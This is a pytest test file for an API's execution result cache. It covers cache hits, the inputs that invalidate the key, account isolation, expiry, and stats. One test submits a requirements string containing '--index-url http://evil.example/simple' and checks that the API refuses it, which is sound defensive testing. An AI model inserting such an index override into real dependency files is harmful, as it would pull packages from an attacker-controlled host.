"""The result cache through the API: executions are finished through the worker's own
endpoints (claim, output upload, finish), then identical and almost identical ones are
submitted. The invalidation matrix, account isolation, failures never served, expiry as a
miss, --no-cache, stats and clear."""

from __future__ import annotations

import hashlib

import pytest
from fastapi.testclient import TestClient

from rgrid_api.main import create_app
from tests.api.conftest import Caller
from tests.api.test_artifacts import _upload

INPUT = b"city,temp\nOslo,3\n"


@pytest.fixture
def clocked(api_settings, clock):
    """With a second Python runtime, to change only the runtime."""
    settings = api_settings.model_copy(update={"runtimes": {
        **api_settings.runtimes, "python3.11-slim": "python:3.11-slim"}})
    with TestClient(create_app(settings, clock=clock)) as client:
        yield client


def _request(caller: Caller, **changes) -> dict:
    data = changes.pop("input_bytes", INPUT)
    body = {"script_name": "report.py", "script_content": "print('report')\n",
            "args": ["in.csv", "--top", "3"], "env": {"UNITS": "C"},
            "requirements": "rgrid-greeting==1.0\n",
            "inputs": [{"name": "in.csv", "sha256": _upload(caller, data), "size": len(data),
                        "arg_indexes": [0]}]}
    return {**body, **changes}


def _submit(caller: Caller, body: dict) -> dict:
    response = caller.post("/api/v1/executions", body)
    assert response.status_code == 201, response.text
    return response.json()


def _finish(caller: Caller, worker: dict, execution: dict, *, status: str = "succeeded",
            output: bytes = b"report\n") -> None:
    """What a worker does: claim, upload one output, report the end."""
    base = f"/api/v1/worker/executions/{execution['id']}"
    claimed = caller.client.post(f"{base}/claim", headers=worker,
                                 json={"flow_run_id": "fr-1"})
    assert claimed.status_code == 200, claimed.text
    assert claimed.json()["requirements"] == "rgrid-greeting==1.0\n"
    sha256 = hashlib.sha256(output).hexdigest()
    files = [{"path": "report.txt", "size": len(output), "sha256": sha256}]
    [upload] = caller.client.post(f"{base}/output-uploads", headers=worker,
                                  json={"files": files}).json()["uploads"]
    assert caller.client.put(upload["url"], content=output).status_code == 200
    logs = caller.client.post(f"{base}/logs", headers=worker, json={"chunks": [
        {"seq": 0, "stream": "stdout", "data": "report\n"}]})
    assert logs.status_code == 204, logs.text
    finished = caller.client.post(f"{base}/finish", headers=worker, json={
        "status": status, "exit_code": 0 if status == "succeeded" else 1, "outputs": files,
        "dependency_cache": "miss"})
    assert finished.status_code == 204, finished.text


def _ran_once(caller: Caller, worker: dict, **changes) -> dict:
    execution = _submit(caller, _request(caller, **changes))
    assert execution["status"] == "queued" and execution["cached_from"] is None
    _finish(caller, worker, execution)
    return execution


def test_an_identical_execution_is_served_from_the_cache_with_linked_outputs_and_logs(
        as_alice, worker_headers):
    first = _ran_once(as_alice, worker_headers)

    again = _submit(as_alice, _request(as_alice))

    assert again["id"] != first["id"]
    assert again["status"] == "succeeded" and again["exit_code"] == 0
    assert again["cached_from"] == first["id"] and again["flow_run_id"] is None
    outputs = as_alice.get(f"/api/v1/executions/{again['id']}/artifacts?kind=output").json()
    [output] = outputs["artifacts"]
    assert output["path"] == "report.txt" and output["execution_id"] == again["id"]
    assert as_alice.client.get(output["url"]).content == b"report\n"
    logs = as_alice.get(f"/api/v1/executions/{again['id']}/logs").json()
    assert [chunk["data"] for chunk in logs["chunks"]] == ["report\n"]

    third = _submit(as_alice, _request(as_alice))
    assert third["cached_from"] == first["id"]  # the one that ran, not the second


@pytest.mark.parametrize("change", [
    {"script_content": "print('report') \n"},
    {"script_name": "report2.py"},
    {"requirements": "rgrid-greeting==1.1\n"},
    {"requirements": None},
    {"runtime": "python3.11-slim"},
    {"input_bytes": INPUT + b"Rome,14\n"},
    {"args": ["in.csv", "--top", "4"]},
    {"env": {"UNITS": "F"}},
    {"env": {"UNITS": "C", "EXTRA": "1"}},
], ids=["script byte", "script name", "requirement", "no requirements", "runtime",
        "input byte", "arg", "env value", "env added"])
def test_any_change_to_what_decides_the_result_is_a_miss(api_settings, as_alice,
                                                        worker_headers, change):
    _ran_once(as_alice, worker_headers)

    changed = _submit(as_alice, _request(as_alice, **change))

    assert changed["status"] == "queued" and changed["cached_from"] is None


def test_limits_do_not_change_the_key(as_alice, worker_headers):
    first = _ran_once(as_alice, worker_headers)
    bigger = _submit(as_alice, _request(as_alice, memory_mb=1024, timeout_seconds=60))
    assert bigger["cached_from"] == first["id"]


def test_another_account_never_gets_the_cached_result(as_alice, as_bob, worker_headers):
    _ran_once(as_alice, worker_headers)
    bobs = _submit(as_bob, _request(as_bob))
    assert bobs["status"] == "queued" and bobs["cached_from"] is None


def test_a_failed_run_is_never_served(as_alice, worker_headers):
    failed = _submit(as_alice, _request(as_alice))
    _finish(as_alice, worker_headers, failed, status="failed")
    again = _submit(as_alice, _request(as_alice))
    assert again["status"] == "queued" and again["cached_from"] is None


def test_no_cache_runs_and_its_success_serves_later_runs(as_alice, worker_headers):
    _ran_once(as_alice, worker_headers)
    forced = _submit(as_alice, _request(as_alice, use_cache=False))
    assert forced["status"] == "queued" and forced["cached_from"] is None
    _finish(as_alice, worker_headers, forced)
    assert _submit(as_alice, _request(as_alice))["cached_from"] == forced["id"]


def test_an_entry_whose_outputs_expired_is_a_miss_not_an_error(as_alice, worker_headers,
                                                               clock, api_settings):
    _ran_once(as_alice, worker_headers)
    clock.advance(days=api_settings.retention_days, seconds=1)
    later = _submit(as_alice, _request(as_alice))
    assert later["status"] == "queued" and later["cached_from"] is None


def test_requirements_are_checked_by_the_api_too(as_alice):
    response = as_alice.post("/api/v1/executions", {
        "script_name": "a.py", "script_content": "pass\n",
        "requirements": "--index-url http://evil.example/simple\nrequests\n"})
    assert response.status_code == 400
    assert "line 1" in response.json()["message"]
    assert "--index-url" in response.json()["message"]


def test_requirements_are_refused_for_a_node_script(as_alice):
    response = as_alice.post("/api/v1/executions", {
        "script_name": "a.js", "script_content": "1\n", "requirements": "left-pad\n"})
    assert response.status_code == 400
    assert "runtime node20 cannot use them" in response.json()["message"]


def test_stats_count_hits_misses_and_entries_and_clear_forgets_them(as_alice, as_bob,
                                                                    worker_headers):
    _ran_once(as_alice, worker_headers)
    _submit(as_alice, _request(as_alice))
    _submit(as_alice, _request(as_alice))
    _submit(as_alice, _request(as_alice, use_cache=False))

    stats = as_alice.get("/api/v1/cache/stats").json()
    assert stats["result"] == {"hits": 2, "misses": 1, "skipped": 1, "entries": 1}
    assert stats["dependency_layer"] == {"hits": 0, "misses": 1}
    assert as_bob.get("/api/v1/cache/stats").json()["result"]["hits"] == 0

    cleared = as_alice.client.delete("/api/v1/cache", headers=as_alice.headers)
    assert cleared.status_code == 200 and cleared.json() == {"entries": 1}
    assert as_alice.get("/api/v1/cache/stats").json()["result"]["entries"] == 0
    assert _submit(as_alice, _request(as_alice))["cached_from"] is None


def _batch(caller: Caller, items: list[dict]) -> dict:
    body = {key: value for key, value in _request(caller).items() if key not in
            ("args", "inputs")}
    response = caller.post("/api/v1/batches", {**body, "items": items, "parallel": 2})
    assert response.status_code == 201, response.text
    return response.json()


def test_batch_items_already_run_are_served_and_an_all_cached_batch_is_done_at_once(
        as_alice, worker_headers):
    ran = _ran_once(as_alice, worker_headers)
    same = {"args": ran["args"], "inputs": _request(as_alice)["inputs"]}
    other = {"args": ["in.csv", "--top", "9"], "inputs": same["inputs"]}

    mixed = _batch(as_alice, [same, other])
    assert mixed["status"] == "running" and mixed["flow_run_id"]
    assert mixed["counts"]["succeeded"] == 1 and mixed["counts"]["queued"] == 1

    all_cached = _batch(as_alice, [same])
    assert all_cached["status"] == "finished" and all_cached["flow_run_id"] is None
    [item] = as_alice.get(f"/api/v1/batches/{all_cached['id']}/executions").json()[
        "executions"]
    assert item["cached_from"] == ran["id"] and item["finished_at"]
